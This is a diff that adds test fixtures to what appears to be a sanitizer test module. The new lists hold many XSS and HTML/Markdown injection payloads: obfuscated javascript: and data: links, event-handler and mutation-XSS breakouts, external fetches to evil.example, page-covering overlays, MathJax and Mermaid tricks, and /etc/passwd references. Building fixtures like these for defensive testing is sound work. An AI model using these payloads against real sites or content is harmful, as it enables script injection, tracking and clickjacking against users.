@@ -39,3 +39,119 @@ NAMES = [
     "$x$ \\(y\\) \\[z\\]",
 ]
 """Parts of names of files and folders, and of keys: no slash, no control characters."""
+
+_LINKS = [
+    "javascript:window.hit=1",
+    "JaVaScRiPt:window.hit=1",
+    "java\nscript:window.hit=1",
+    "java&#10;script:window.hit=1",
+    "java&Tab;script:window.hit=1",
+    "&#106;avascript:window.hit=1",
+    "&#x6A;&#x61;vascript&colon;window.hit=1",
+    "&#0000106avascript:window.hit=1",
+    "\x01javascript:window.hit=1",
+    " javascript:window.hit=1",
+    "javascript&#58;window.hit=1",
+    "javascript:/*--></title></style></textarea></script><svg/onload='window.hit=1'>*/",
+    "vbscript:window.hit=1",
+    "data:text/html,<script>window.hit=1</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "DATA&colon;image/svg+xml,<svg onload=window.hit=1>",
+    "blob:window.hit=1",
+    "file:///etc/passwd",
+    "feed:javascript:window.hit=1",
+    "view-source:javascript:window.hit=1",
+    "//evil.example/x",
+    "\\\\evil.example\\x",
+]
+
+_ELEMENTS = [
+    "<script>window.hit=1</script>",
+    "<script src=https://evil.example/x.js></script>",
+    "</script><script>window.hit=1</script>",
+    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
+    "<img src=https://evil.example/pixel.gif onerror=window.hit=1>",
+    "<img srcset=https://evil.example/pixel.gif>",
+    "<picture><source srcset=https://evil.example/x.webp><img src=x></picture>",
+    "<video src=https://evil.example/v.mp4 autoplay onplay=window.hit=1></video>",
+    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
+    "<iframe src=https://evil.example/></iframe><iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
+    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
+    "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/y>",
+    "<style>@import url(https://evil.example/x.css); body { display: none }</style>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<form action=https://evil.example/><input name=password autofocus onfocus=window.hit=1><button>Go</button></form>",
+    "<button popovertarget=x onclick=window.hit=1>x</button><div popover id=x>y</div>",
+    "<dialog open style='position:fixed;inset:0'>covered</dialog>",
+    "<details open ontoggle=window.hit=1><summary>x</summary>y</details>",
+    "<div style='position:fixed;inset:0;z-index:9999;background:red'>covered</div>",
+    "<div class='fixed-top md-overlay md-header modal show position-fixed vh-100'>covered</div>",
+    "<a class='stretched-link fixed-top' href=https://evil.example/>covered</a>",
+    "<a id=__search href=https://evil.example/ name=file-metadata>x</a><p id=L1>y</p>",
+    "<input id=__drawer type=checkbox checked><label for=__drawer class=md-overlay>x</label>",
+    (
+        "<a href=https://evil.example/><svg width=3000 height=3000 viewBox='0 0 1 1' transform='translate(-900 -900)'>"
+        "<path d='M0 0h1v1H0z'/></svg></a>"
+    ),
+    "<svg viewBox='0 0 1 1' width=100% height=9999px style='position:fixed;inset:0'><rect width=9 height=9 /></svg>",
+    "<svg viewBox='0 0 9 9'><rect fill='url(https://evil.example/x.svg#a)' width=9 height=9 /></svg>",
+    "<svg><a xlink:href=javascript:window.hit=1><text y=20>x</text></a></svg>",
+    "<svg><use href=https://evil.example/x.svg#a /><image href=https://evil.example/x.png /></svg>",
+    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s /><set attributeName=onload to=window.hit=1 /></svg>",
+    "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=window.hit=1></body></foreignObject></svg>",
+    "<svg><style>*{background:url(https://evil.example/x)}</style></svg><svg/onload=window.hit=1>",
+    '<svg></p><style><a id="</style><img src=x onerror=window.hit=1>">',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.hit=1&gt;">',
+    "<math><a xlink:href=javascript:window.hit=1>x</a><maction actiontype=statusline#javascript:window.hit=1>y</math>",
+    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.hit=1 src>">',
+    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
+    "<template><img src=x onerror=window.hit=1></template><slot name=x onslotchange=window.hit=1></slot>",
+    '<textarea><img title="</textarea><img src=x onerror=window.hit=1>"></textarea>',
+    '<title><img title="</title><img src=x onerror=window.hit=1>"></title>',
+    '<xmp><img title="</xmp><img src=x onerror=window.hit=1>"></xmp><plaintext>',
+    "<!--><img src=x onerror=window.hit=1>--><!--!><img src=x onerror=window.hit=1>",
+    "<![CDATA[<img src=x onerror=window.hit=1>]]><?xml-stylesheet href=https://evil.example/x.css?>",
+    "<marquee onstart=window.hit=1>x</marquee><body onload=window.hit=1><frameset onload=window.hit=1>",
+    "<x-y is=x onclick=window.hit=1 contenteditable autofocus onfocus=window.hit=1 tabindex=1>x</x-y>",
+    "<kw-ref name=os>x</kw-ref><kw-ref name='file:../../../etc/passwd'>y</kw-ref>",
+    "<span class='arithmatex mathjax_process'>\\(\\href{javascript:window.hit=1}{x}\\)</span>",
+    '<pre class=mermaid>%%{init: {"securityLevel": "loose"}}%%\ngraph LR; A-->B; click A href "javascript:window.hit=1"</pre>',
+    "&lt;img src=x onerror=window.hit=1&gt; &#60;script&#62;window.hit=1&#60;/script&#62;",
+    "&#2;os&#3;x&#4; \x02os\x03x\x04 \u202eevil\u202c \x00",
+    "<p align='left\" onclick=window.hit=1 x=\"'>x</p><td background=https://evil.example/x>y</td>",
+    "<a href=https://example.com target=_blank ping=https://evil.example/p onclick=window.hit=1>ping</a>",
+    "<table background=https://evil.example/x><tr><td style=\"background:url('https://evil.example/y')\">x</table>",
+    "<ul style='list-style-image:url(https://evil.example/x)'><li>x</ul>",
+    "<a title='\"><img src=x onerror=window.hit=1>' href=https://example.com>title</a>",
+    "</div></div></section></main></body></html><img src=x onerror=window.hit=1>",
+]
+
+_MARKDOWN = [
+    *(f"[link]({link})" for link in _LINKS if "\n" not in link and "<" not in link),
+    *(f'<a href="{link}">raw</a>' for link in _LINKS if '"' not in link),
+    "![pixel](https://evil.example/pixel.gif)",
+    "![x][y]\n\n[y]: javascript:window.hit=1",
+    "<javascript:window.hit=1> <data:text/html,x>",
+    "[x](https://example.com){: onclick=window.hit=1 style='position:fixed;inset:0' class='fixed-top' id=__search }",
+    "Para\n{: .fixed-top .md-overlay #L1 style='position:fixed' }",
+    "$\\href{javascript:window.hit=1}{x}$ and $\\style{position:fixed;inset:0;background:red}{x}$",
+    "$$\n\\require{html}\\class{fixed-top}{\\cssId{L1}{x}}\n$$",
+    "$\\def\\h{\\href}\\h{javascript:window.hit=1}{x}$ $\\bbox[position:fixed;inset:0]{x}$ $\\rule{9999em}{9999em}$",
+    "\\(\\href{javascript:window.hit=1}{x}\\) \\[\\style{position:fixed;inset:0}{x}\\]",
+    (
+        '```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "*{position:fixed}"}}%%\ngraph LR\n  A-->B\n'
+        '  click A href "javascript:window.hit=1"\n```'
+    ),
+    '```mermaid\n---\nconfig:\n  securityLevel: loose\n---\ngraph LR\n  A["<img src=x onerror=window.hit=1>"]\n```',
+    '```mermaid\ngraph LR\n  A@{ img: "https://evil.example/x.png" }\n```',
+    '!!! fixed-top "<img src=x onerror=window.hit=1>"\n    x',
+    '=== "<script>window.hit=1</script>"\n\n    x\n',
+    "{{ config }} {% raw %} {{ 7 * 7 }}",
+]
+
+DOCUMENT = "# Document\n\n" + "\n\n".join([*_ELEMENTS, *_MARKDOWN]) + "\n"
+"""Raw HTML and Markdown that would run, fetch, link or cover, each in a paragraph of its own."""
+
+PAYLOADS = [*_ELEMENTS, *_MARKDOWN]
+"""The same one by one."""
